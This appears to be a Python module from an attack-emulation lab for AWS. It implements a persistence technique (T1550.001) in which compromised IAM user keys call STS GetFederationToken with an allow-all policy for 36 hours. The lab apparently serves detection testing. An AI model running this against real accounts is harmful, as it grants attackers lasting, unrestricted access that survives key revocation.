"""sts-federation-token: temporary credentials that outlive the stolen key (T1550.001)."""

from __future__ import annotations

import json
from pathlib import Path

from lab.attacks.base import Prerequisites
from lab.attacks.compromised_user import CompromisedUserActivity
from lab.emulator.endpoints import Endpoints

ALLOW_ALL = {
    "Version": "2012-10-17",
    "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}],
}


class FederationNeedsUserKeys(RuntimeError):
    """The attacker's credentials are not an IAM user's long-term keys."""


class StsFederationToken(CompromisedUserActivity):
    folder = Path(__file__).parent

    def warm_up(self, endpoints: Endpoints) -> Prerequisites:
        """Refused before anything is created unless the attacker's calls carry an IAM user's
        long-term keys: STS refuses GetFederationToken with session credentials (a role, SSO or
        federated session; STS API Reference, GetFederationToken), and on a real account the
        attacker's calls use your credentials."""
        caller = endpoints.client("sts", "attacker").get_caller_identity()["Arn"]
        if ":user/" not in caller:
            raise FederationNeedsUserKeys(
                f"{self.id} calls sts:GetFederationToken, which STS accepts only from an IAM "
                f"user's long-term access keys, not from {caller}: run the lab with an IAM user's "
                "keys (AWS_PROFILE of a user with the lab's policy), or leave it out of the scenario"
            )
        return super().warm_up(endpoints)

    def act(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        endpoints.client("sts", "attacker").get_federation_token(
            Name="lab-persistence", Policy=json.dumps(ALLOW_ALL), DurationSeconds=129600
        )


TECHNIQUE = StsFederationToken
